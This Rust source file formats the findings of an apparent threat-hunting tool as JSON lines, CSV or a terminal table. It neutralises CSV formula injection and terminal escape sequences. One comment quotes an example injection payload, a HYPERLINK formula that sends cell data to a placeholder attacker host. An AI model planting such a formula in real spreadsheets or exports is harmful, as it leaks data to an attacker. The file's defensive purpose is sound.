//! Writing findings in the formats `hunt --format` offers.
//!
//! JSON lines is the contract (DESIGN.md): one Finding object per line.
//! CSV has one row per finding for spreadsheets. The table is for people at
//! a terminal and is not meant to be parsed. Every format lists the most
//! serious finding first ([`most_serious_first`]).

use std::io::{self, Write};

use orbwatch_detect::{Finding, most_serious_first};

/// Output formats for findings.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OutputFormat {
    Jsonl,
    Csv,
    Table,
}

impl std::str::FromStr for OutputFormat {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "jsonl" | "json" => Ok(Self::Jsonl),
            "csv" => Ok(Self::Csv),
            "table" => Ok(Self::Table),
            other => Err(format!(
                "unknown output format `{other}`; use jsonl, csv or table"
            )),
        }
    }
}

/// Write findings in `format`, most serious first. References, so that a
/// caller choosing which findings to show (a hunt hiding what triage
/// dismissed) does not copy a hunt's worth of findings to do it.
pub fn write_findings(
    findings: &[&Finding],
    format: OutputFormat,
    w: &mut dyn Write,
) -> io::Result<()> {
    let mut sorted: Vec<&Finding> = findings.to_vec();
    sorted.sort_by(|a, b| most_serious_first(a, b));
    let findings = &sorted[..];
    match format {
        OutputFormat::Jsonl => {
            for f in findings {
                serde_json::to_writer(&mut *w, *f)?;
                w.write_all(b"\n")?;
            }
            Ok(())
        }
        OutputFormat::Csv => write_csv(findings, w),
        OutputFormat::Table => write_table(findings, w),
    }
}

/// An optional value as a CSV cell (empty when absent).
pub(crate) fn opt<T: ToString>(v: &Option<T>) -> String {
    v.as_ref().map(ToString::to_string).unwrap_or_default()
}

/// Columns of the CSV output, in order.
pub const CSV_COLUMNS: [&str; 24] = [
    "id",
    "kind",
    "first_seen",
    "last_seen",
    "count",
    "src_ip",
    "dst_ip",
    "indicator",
    "indicator_type",
    "feed",
    "direction",
    "in_validity_window",
    "confidence",
    "matched_field",
    "matched_value",
    "evidence_file",
    "evidence_line",
    "evidence_raw",
    "severity",
    "score",
    "reasons",
    "targets",
    "accounts",
    "outcomes",
];

/// The [`CSV_COLUMNS`] values of one finding (shared with the report CSV,
/// which adds triage columns after them).
pub fn csv_row(f: &Finding) -> Vec<String> {
    let ioc = f.ioc.as_ref();
    let ev = f.evidence.first();
    vec![
        f.id.clone(),
        f.kind.to_string(),
        opt(&f.first_seen),
        opt(&f.last_seen),
        f.count.to_string(),
        opt(&f.src_ip),
        opt(&f.dst_ip),
        ioc.map(|i| i.indicator.clone()).unwrap_or_default(),
        ioc.map(|i| i.indicator_type.clone()).unwrap_or_default(),
        ioc.map(|i| i.feed.clone()).unwrap_or_default(),
        ioc.map(|i| i.direction.as_str().to_string())
            .unwrap_or_default(),
        ioc.map(|i| i.in_validity_window.to_string())
            .unwrap_or_default(),
        ioc.and_then(|i| i.confidence)
            .map(|c| c.to_string())
            .unwrap_or_default(),
        ioc.map(|i| i.matched_field.clone()).unwrap_or_default(),
        ioc.map(|i| i.matched_value.clone()).unwrap_or_default(),
        ev.map(|e| e.file.clone()).unwrap_or_default(),
        ev.and_then(|e| e.line)
            .map(|l| l.to_string())
            .unwrap_or_default(),
        ev.map(|e| e.raw.clone()).unwrap_or_default(),
        f.severity
            .map(|s| s.as_str().to_string())
            .unwrap_or_default(),
        opt(&f.score),
        f.reasons.join("; "),
        f.targets.join(" "),
        f.accounts.join(" "),
        ioc.and_then(|i| i.outcomes.as_ref())
            .map(|o| {
                o.present()
                    .map(|(k, n)| format!("{k}={n}"))
                    .collect::<Vec<_>>()
                    .join(" ")
            })
            .unwrap_or_default(),
    ]
}

/// A CSV cell that a spreadsheet will not run as a formula (OWASP's rule
/// against CSV injection): a cell starting with `=`, `+`, `-`, `@`, tab or
/// carriage return gets a leading `'`, which spreadsheets show as text.
///
/// Why: log text reaches the cells (evidence, user names, URLs); a line
/// such as `=HYPERLINK("http://evil/?"&A1,"click")` would otherwise become
/// a live formula in the analyst's spreadsheet. The cost is a visible `'`
/// on such cells; no column orbwatch writes starts with these characters
/// on its own (counts and scores are never negative).
pub fn csv_safe_cell(cell: String) -> String {
    match cell.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{cell}"),
        _ => cell,
    }
}

fn write_csv(findings: &[&Finding], w: &mut dyn Write) -> io::Result<()> {
    let mut c = csv::Writer::from_writer(w);
    c.write_record(CSV_COLUMNS)?;
    for f in findings {
        c.write_record(csv_row(f).into_iter().map(csv_safe_cell))?;
    }
    c.flush()?;
    Ok(())
}

fn short_time(t: &Option<jiff::Timestamp>) -> String {
    t.map(|t| t.strftime("%Y-%m-%d %H:%M").to_string())
        .unwrap_or_else(|| "(no time)".into())
}

fn write_table(findings: &[&Finding], w: &mut dyn Write) -> io::Result<()> {
    // Evidence is log text: escape what could drive the terminal.
    let mut safe = crate::terminal::TerminalSafe(w);
    let w: &mut dyn Write = &mut safe;
    if findings.is_empty() {
        return writeln!(w, "No findings.");
    }
    writeln!(
        w,
        "{:<8}  {:>5}  {:<16}  {:<16}  {:>6}  {:<22}  {:<8}  {:<3}  {:<14}  evidence",
        "severity",
        "score",
        "first seen",
        "last seen",
        "count",
        "indicator/source",
        "dir",
        "win",
        "feed/kind"
    )?;
    for f in findings {
        // Behaviour findings use the same columns: the kind and source in
        // place of the indicator, no direction or window. Reasons follow
        // on indented lines for both.
        let (ind, dir, win, feed) = match &f.ioc {
            Some(i) => (
                i.indicator.clone(),
                i.direction.as_str().to_string(),
                if i.in_validity_window { "in" } else { "OUT" }.to_string(),
                i.feed.clone(),
            ),
            None => (
                match (f.src_ip, f.sources.len()) {
                    (_, n) if n > 1 => format!("{} sources", n),
                    (Some(ip), _) => ip.to_string(),
                    (None, _) => String::new(),
                },
                String::new(),
                String::new(),
                f.kind.to_string(),
            ),
        };
        let ev = f
            .evidence
            .first()
            .map(|e| match e.line {
                Some(l) => format!("{}:{l}", e.file),
                None => e.file.clone(),
            })
            .unwrap_or_default();
        writeln!(
            w,
            "{:<8}  {:>5}  {:<16}  {:<16}  {:>6}  {:<22}  {:<8}  {:<3}  {:<14}  {}",
            f.severity.map_or("-", |s| s.as_str()),
            f.score.map(|s| s.to_string()).unwrap_or_default(),
            short_time(&f.first_seen),
            short_time(&f.last_seen),
            f.count,
            ind,
            dir,
            win,
            feed,
            ev
        )?;
        for r in &f.reasons {
            writeln!(w, "{:<10}- {r}", "")?;
        }
    }
    Ok(())
}
